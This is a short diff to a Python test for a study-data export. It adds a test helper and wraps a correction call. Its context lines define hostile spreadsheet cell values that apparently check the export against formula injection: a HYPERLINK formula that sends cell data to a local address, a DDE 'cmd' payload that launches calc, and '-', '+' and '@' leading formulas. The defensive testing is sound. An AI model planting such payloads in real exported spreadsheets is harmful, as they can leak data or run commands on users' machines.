@@ -16,6 +16,7 @@ from study.storage.models import Answer, Assignment, Case, Reader, Study
 from study.jobs.simulate_readers import simulate
 from tests.study.test_study_export import parse_imrmc
 from tests.study.test_study_simulate import seed_study
+from tests.study.helpers import committed
 
 LINK = '=HYPERLINK("http://127.0.0.1:9/x?d="&A1,"click")'
 HOSTILE_KEYS = {"c000": LINK, "c001": "-5", "c002": "+cmd|' /C calc'!A0", "c003": "@SUM(1+1)"}
@@ -38,7 +39,7 @@ def _hostile_study(Session) -> int:
         s.commit()
         ans = s.scalars(select(Answer).join(Assignment).where(Assignment.condition == "unaided")
                         .order_by(Answer.id)).first()
-        workflow.correct(s, ans.reader_id, ans.id, {**ans.payload, "confidence": 12}, REASON)
+        committed(workflow.correct, s, ans.reader_id, ans.id, {**ans.payload, "confidence": 12}, REASON)
     return sid
 
 
